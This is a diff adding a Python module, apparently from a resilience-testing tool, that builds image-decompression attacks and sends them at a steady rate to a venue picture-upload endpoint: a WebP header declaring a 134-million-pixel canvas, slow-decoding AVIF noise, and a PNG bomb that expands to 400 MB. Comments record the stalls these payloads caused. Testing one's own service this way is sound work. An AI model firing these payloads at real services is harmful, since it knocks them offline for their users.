@@ -1,0 +1,69 @@
+"""Attacks by pictures that are small to send and large or slow to decode."""
+
+import io
+import random
+import struct
+import zlib
+
+from PIL import Image
+
+from siege.attack import attack
+from siege.attacker import Attacker
+
+
+def noise_png(width: int, height: int) -> bytes:
+    """Returns a PNG of noise, which no format can compress."""
+    return _saved(_noise(width, height), "PNG", compress_level=0)
+
+
+@attack("4 requests a second of 38 bytes")
+async def webp_with_a_huge_canvas(attacker: Attacker) -> None:
+    """Uploads a WebP with a canvas of 134 million pixels and none of them. It stalled everyone for a second."""
+    sides = (16_384 - 1).to_bytes(3, "little") + (8_192 - 1).to_bytes(3, "little")
+    chunks = b"VP8X" + struct.pack("<I", 10) + bytes(4) + sides + b"VP8L" + struct.pack("<I", 0)
+    body = b"RIFF" + struct.pack("<I", 4 + len(chunks)) + b"WEBP" + chunks
+    await attacker.begin()
+    await attacker.at_rate(4, lambda _: _upload(attacker, body, "image/webp"))
+
+
+@attack("1 request every 2 seconds of 4 MB")
+async def slow_avif(attacker: Attacker) -> None:
+    """Uploads noise as AVIF, which is slow to decode and encode. 11 MB held the only thread for 100 s."""
+    body = _saved(_noise(2400, 2400), "AVIF", quality=80, speed=10)
+    await attacker.begin()
+    await attacker.at_rate(0.5, lambda _: _upload(attacker, body, "image/avif"))
+
+
+@attack("1 request a second of 0.4 MB")
+async def png_bomb(attacker: Attacker) -> None:
+    """Uploads a PNG of one colour with as many pixels as are taken: 400 MB once it is decoded."""
+    body = _plain_png(16_384, 8_192)
+    await attacker.begin()
+    await attacker.at_rate(1, lambda _: _upload(attacker, body, "image/png"))
+
+
+async def _upload(attacker: Attacker, body: bytes, media_type: str) -> None:
+    path = f"/v1/manage/venues/{attacker.task.venue_id}/imagery/picture"
+    await attacker.send("PUT", path, body, media_type=media_type)
+
+
+def _noise(width: int, height: int) -> Image.Image:
+    return Image.frombytes("RGB", (width, height), random.Random(1).randbytes(width * height * 3))
+
+
+def _saved(image: Image.Image, format_: str, **options: object) -> bytes:
+    file = io.BytesIO()
+    image.save(file, format_, **options)
+    return file.getvalue()
+
+
+def _plain_png(width: int, height: int) -> bytes:
+    compressor = zlib.compressobj(9)
+    row = bytes(1 + width * 3)
+    data = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
+    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")
+
+
+def _chunk(name: bytes, data: bytes) -> bytes:
+    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
